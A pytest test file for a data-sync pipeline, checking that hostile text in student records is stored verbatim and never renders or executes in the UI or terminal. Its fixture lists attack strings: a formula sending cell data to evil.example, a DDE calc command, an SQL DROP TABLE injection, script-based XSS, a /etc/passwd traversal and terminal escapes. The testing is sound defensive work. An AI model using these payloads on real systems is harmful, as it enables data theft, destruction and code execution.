"""Text that was written to do harm goes through a sync whole, and comes out as text (requirement G120)."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest
from dagster import MarkdownMetadataValue, TableMetadataValue

from connector_pipelines.commands import letters as commands
from connector_pipelines.database.connection import connect
from connector_pipelines.external.landing import Landing
from connector_pipelines.settings import settings
from connector_pipelines.sync import planning, records
from connector_pipelines.sync.context import Context
from connector_pipelines.terminal import show_changes

if TYPE_CHECKING:
    from pathlib import Path

    from connector_pipelines.model import Plan

TODAY = datetime.now(UTC).date().isoformat()
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"pay")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql": "'; DROP TABLE core.students; --",
    "html": "<script>fetch('//evil.example')</script><img src=x onerror=alert(1)>",
    "markdown": "![x](http://evil.example/t.png) [pay](javascript:alert(1)) | `",
    "path": "../../../../etc/passwd",
    "template": "{{ env.SECRET }} ${HOME} %s {0} \\0",
    "rich": "[/] [bold red]gone[/]",
    "terminal": "\x1b[2J\x1b]0;owned\x07",
    "direction": "\u202eexe.gpj\u2066",
    "copy": "\\.\\N\t1",
    "scripts": "李 مریم Łukasz 👩\u200d🔬",
}
"""Each as a name, and as the id of a record."""
STORED_NOWHERE = {"nul": "a\x00b"}
BIG = "x" * 1_000_000


@pytest.fixture
def attacked(project: Any) -> Any:
    """A source whose students were all written to do harm, once."""
    project.declare("alpha", "entities: [students]")
    told = [
        {"id": text, "family_name": text, "given_name": kind, "status": "active"}
        for kind, text in (HOSTILE | STORED_NOWHERE).items()
    ]
    big = {"id": "big", "family_name": BIG, "given_name": "big", "status": "active"}
    too_long = {"id": BIG, "family_name": "x", "given_name": "long", "status": "active"}
    project.send("alpha", students=[[*told, big, too_long]])
    return project


def shown(run: Any) -> tuple[list[str], list[str]]:
    """Every text that the UI shows of a run: Markdown, which it renders, and cells of tables, which it does not."""
    rendered: list[str] = []
    cells: list[str] = []
    for event in run.all_events:
        data = event.event_specific_data
        told = getattr(getattr(data, "materialization", None), "metadata", None) or getattr(data, "metadata", None)
        for value in (told or {}).values():
            if isinstance(value, MarkdownMetadataValue):
                rendered.append(str(value.md_str))
            elif isinstance(value, TableMetadataValue):
                cells += [str(cell) for record in value.records for cell in record.data.values()]
    return rendered, cells


def test_hostile_text_comes_to_core_as_it_is(attacked: Any, tmp_path: Path) -> None:
    """Whatever a text says is a value in core; what cannot be stored is a dead letter; nothing else happens."""
    tables = attacked.rows("SELECT count(*) FROM pg_tables WHERE schemaname = 'core'")
    run = attacked.run("sync_alpha", partition_key=TODAY)
    assert run.success
    stored = dict(attacked.rows("SELECT given_name, family_name FROM core.students"))
    assert stored == HOSTILE | {"big": BIG}
    ids = attacked.rows("SELECT external_id FROM connector.external_system_mappings")
    assert {number for (number,) in ids} == {*HOSTILE.values(), "big"}
    refused = "SELECT count(*), count(external_id) FROM connector.dead_letters"
    assert attacked.rows(refused) == [(2, 0)]  # found by their payloads: ids that no index takes are none
    assert tables == attacked.rows("SELECT count(*) FROM pg_tables WHERE schemaname = 'core'")
    assert {path.name for path in tmp_path.iterdir()} <= {"defs", "alpha.json", "landing"}
    rendered, cells = shown(run)
    assert any(HOSTILE["html"] in cell for cell in cells)
    assert not {"\x1b", "\x07", "\u202e"} & set("".join(rendered + cells))
    assert not any("<script" in text or re.search(r"(?<!\\)\]\(", text) for text in rendered)
    assert attacked.run("sync_alpha", partition_key=TODAY).success
    newest = "SELECT counts ->> 'unchanged' FROM connector.sync_plans ORDER BY id DESC LIMIT 1"
    assert attacked.rows(newest) == [(str(len(HOSTILE) + 1),)]


def newest_plan(connection: Any) -> Plan:
    """The plan that was made last."""
    [(number,)] = connection.execute("SELECT max(id) FROM connector.sync_plans").fetchall()
    return records.load_plan(connection, number)


def test_hostile_text_does_nothing_on_a_terminal(
    attacked: Any, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Changes and dead letters are listed with their ids and values, and the terminal is told nothing by them."""
    assert attacked.run("dry_run_alpha").success
    with connect(attacked.url) as connection:
        context, plan = Context(connection, Landing(str(tmp_path / "landing"))), newest_plan(connection)
        show_changes(plan, planning.sample_changes(context, plan, limit=50))
    attacked.run("sync_alpha", partition_key=TODAY)
    monkeypatch.setenv("CONNECTOR_PIPELINES_DATABASE_URL", attacked.url)
    settings.cache_clear()
    commands.list_letters("alpha", each=True)
    commands.list_letters("alpha")
    [(letter, *_)] = attacked.rows("SELECT id FROM connector.dead_letters ORDER BY length(payload) LIMIT 1")
    commands.show_letter("alpha", letter)
    said = capsys.readouterr().out
    assert HOSTILE["rich"] in said
    assert "<script>" in said
    assert "\\x1b[2J" in said
    assert "\\u202e" in said
    assert not {"\x1b", "\x07", "\u202e", "\x00"} & set(said)
